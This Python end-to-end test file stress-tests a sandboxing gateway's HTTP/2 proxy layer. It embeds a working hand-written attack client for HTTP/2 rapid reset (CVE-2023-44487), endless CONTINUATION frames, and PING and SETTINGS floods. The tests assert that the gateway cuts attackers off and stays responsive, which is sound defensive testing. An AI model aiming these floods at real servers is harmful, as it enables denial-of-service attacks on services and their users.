"""HTTP/2 abuse on the inspected path (mitmproxy's HTTP/2 server side), N sandboxes of
`sandgate gateway --workers 1` beside an honest one (support/crowd.run_attack; the
honest profile is inspected too, so its requests share the attackers' worker and
HTTP/2 layer). The attackers speak HTTP/2 frames by hand (the sandbox's python has
no h2 library):

- "reset": rapid reset (CVE-2023-44487): HEADERS then RST_STREAM at once, as fast as
  it can, on one connection after another;
- "continuation": a HEADERS frame never ended, CONTINUATION frames for ever;
- "ping", "settings": PING or SETTINGS frames for ever, never reading the ACKs.

The numbers are printed (`pytest -s`); `SANDGATE_PH2_N` overrides N."""

from __future__ import annotations

import json
import os

import pytest
from sandgate.proxy.lean_mitmproxy import MAX_H2_EARLY_RESETS
from support.crowd import H2_RULES as RULES
from support.crowd import run_attack
from support.service import running

pytestmark = pytest.mark.e2e

ROUNDS = 10
BOUND = 1.0  # seconds: the slowest honest request asserted
# Under a frame flood: a SETTINGS flood took the worker 4.8 s of CPU in 10 s (N=4;
# 9.9 s in 15 s, N=8), and the honest request that met its start 1.35 s (N=8: 2.5 s;
# p50 4-7 ms). Since bound_h2_control_frames (GOAWAY past 200 control frames): 0.9 s
# of CPU in 4.9 s, the slowest honest request 0.11 s (N=4, load average 15); the
# bound stays loose for busy CI machines (test_h2_control_floods asserts BOUND).
FLOOD_BOUND = 3.0
RSS_GROWTH_KB = 64 * 1024
N = int(os.environ.get("SANDGATE_PH2_N", 4))
# Rapid reset: each connection costs the worker a TLS handshake as the server and up
# to MAX_H2_EARLY_RESETS decided streams (~1 ms each), and the profile lets an
# attacker open 50 a second: far more than a worker does. Before mitmproxy's client
# reads were sized and took their turns per sandbox (engine.next_read_size,
# proxy/turns.py), 4 attackers took the honest requests to p50 1.0-1.3 s, max 1.7 s
# on this 2-core machine, and ran with 2; since, p50 0.2-0.5 s, max 0.3-0.9 s. What
# is left is mostly the machine's: the attackers' own processes leave the gateway
# ~40% of a core (docs/threat-model.md, "A fair share of a worker's CPU").
RESET_N = int(os.environ.get("SANDGATE_PH2_N", 4))


# mode shared me count, as support/crowd.ATTACK: `ok` counts frames of the attack sent
# (streams opened for "reset"), `refused` connections the gateway ended, `calm` the
# GOAWAY ENHANCE_YOUR_CALM it sent.
H2_ATTACK = """
import os, socket, ssl, struct, sys, time
mode, shared, me = sys.argv[1], sys.argv[2], sys.argv[3]
ip = socket.gethostbyname("allowed.test")
end = time.monotonic() + 80
stopped = lambda: os.path.exists(f"{shared}/stop") or time.monotonic() > end
context = ssl.create_default_context()
context.set_alpn_protocols(["h2"])
seen = {"ok": 0, "refused": 0, "calm": 0, "alpn": None}
HEAD = b"\\x82\\x87\\x84\\x01\\x0callowed.test"  # GET https / :authority allowed.test

def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload

def connect():
    s = context.wrap_socket(socket.create_connection((ip, 443), timeout=5), server_hostname="allowed.test")
    seen["alpn"] = s.selected_alpn_protocol()
    s.sendall(b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n" + frame(4, 0, 0) + frame(4, 1, 0))
    return s

def drain(s, got):
    # Read what is there; count a GOAWAY ENHANCE_YOUR_CALM. False: the peer closed.
    s.setblocking(False)
    try:
        while True:
            data = s.recv(65536)
            if not data:
                return False
            got += data
    except (BlockingIOError, ssl.SSLWantReadError):
        pass
    finally:
        s.setblocking(True)
    while len(got) >= 9:
        size = int.from_bytes(got[:3], "big")
        if len(got) < 9 + size:
            break
        if got[3] == 7 and int.from_bytes(got[13:17], "big") == 0xB:
            seen["calm"] += 1
        del got[: 9 + size]
    return True

def attack(s):
    got = bytearray()
    stream = 1
    if mode == "continuation":
        s.sendall(frame(1, 0, 1, HEAD))
    while not stopped():
        if mode == "reset":
            burst = b""
            for _ in range(50):
                burst += frame(1, 5, stream, HEAD) + frame(3, 0, stream, struct.pack(">I", 8))
                stream += 2
            s.sendall(burst)
            seen["ok"] += 50
            if not drain(s, got):
                return
        elif mode == "continuation":
            s.sendall(frame(9, 0, 1, b"\\x40\\x01x\\x10" + b"v" * 16) * 64)
            seen["ok"] += 64
            if not drain(s, got):
                return
        else:  # ping, settings: never read
            one = frame(6, 0, 0, b"12345678") if mode == "ping" else frame(4, 0, 0, b"\\x00\\x03\\x00\\x00\\x00\\x64")
            s.sendall(one * 256)
            seen["ok"] += 256

up = False
while not stopped():
    try:
        s = connect()
        if not up:
            open(f"{shared}/up-{me}", "w").write("up")
            up = True
        attack(s)
        s.close()
    except OSError:
        pass
    seen["refused"] += 1
    time.sleep(0.05)
if not up:
    open(f"{shared}/up-{me}", "w").write("up")
open(f"{shared}/done-{me}", "w").write(repr(seen))
"""


@pytest.fixture
def service(net, tmp_path):
    with running(net, tmp_path, RULES, "--workers", "1", "--warm", "0") as gateway:
        yield gateway


def test_rapid_reset_is_closed_with_enhance_your_calm_and_the_honest_sandbox_stays_fast(
    service, tmp_path
):
    attackers, ran, cpu = run_attack(
        service, tmp_path, "reset", "h2", RESET_N, BOUND, RSS_GROWTH_KB, ROUNDS, code=H2_ATTACK
    )
    for workdir, saw in attackers:
        print(saw)
        assert saw["alpn"] == "h2", saw
        assert saw["calm"] > 0 and saw["refused"] >= saw["calm"], saw
        task = json.loads((workdir / "summary.json").read_text())["task_id"]
        service.wait_task_ended(task)
        events = service.events(task_id=task)
        assert not [e for e in events if e.get("reason") == "internal_error"], events[-3:]
        calmed = [e for e in events if e.get("rule_id") == "builtin:rapid-reset"]
        assert calmed and all(e["reason"] == "sandbox_limit" for e in calmed), events[-3:]
        assert len(calmed) <= saw["refused"], (len(calmed), saw)
        # What the attack costs the worker: at most the budget's requests decided (and
        # sent upstream) a connection, where there was no bound at all.
        requests = [e for e in events if e["kind"] == "request"]
        assert len(requests) <= (len(calmed) + 1) * (MAX_H2_EARLY_RESETS + 1), len(requests)
    service.verify_audit()


@pytest.mark.parametrize("attack", ["continuation", "ping", "settings"])
def test_frame_floods_leave_the_honest_sandbox_fast_and_the_worker_bounded(
    service, tmp_path, attack
):
    attackers, _, _ = run_attack(
        service, tmp_path, attack, "h2", N, FLOOD_BOUND, RSS_GROWTH_KB, ROUNDS, code=H2_ATTACK
    )
    for _, saw in attackers:
        print(saw)
        assert saw["alpn"] == "h2" and saw["ok"] > 0, saw
    service.verify_audit()
